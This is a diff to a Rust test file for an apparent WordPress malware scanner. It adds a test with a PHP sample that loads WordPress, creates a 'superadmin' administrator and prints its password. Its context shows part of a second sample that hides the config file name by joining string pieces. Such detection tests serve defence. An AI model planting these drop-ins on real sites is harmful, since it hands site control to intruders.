@@ -132,6 +132,19 @@ fn white_label_plugins_that_hide_other_plugins_are_not_reported() {
 }
 
 #[test]
+fn a_drop_in_that_makes_an_administrator_and_shows_its_password_is_a_backdoor() {
+    // fresh116's `wp-admin.php`: WordPress loaded from outside, an administrator made with a
+    // generated password, the password printed for whoever opens the page.
+    let drop = r#"<?php require_once('wp-load.php'); $password = wp_generate_password(16);
+        $id = wp_create_user('superadmin', $password, 'a@example.com'); $u = new WP_User($id); $u->set_role('administrator');
+        echo "Password: <strong>" . esc_html($password) . "</strong>";"#;
+    assert_eq!(found(drop), [(Why::AdminBackdoor, Danger::High)]);
+    // The same page that shows nothing of the password.
+    let quiet = drop.replace(r#"echo "Password: <strong>" . esc_html($password) . "</strong>";"#, "echo 'Done';");
+    assert_eq!(found(&quiet), []);
+}
+
+#[test]
 fn a_script_loading_wordpress_to_make_an_administrator_is_a_backdoor() {
     // fresh67's `add.php`: the settings file's name joined from pieces, then a written password.
     let dropped = r#"<?php $config = "../"."wp"."-"."config".".php"; include_once($config);
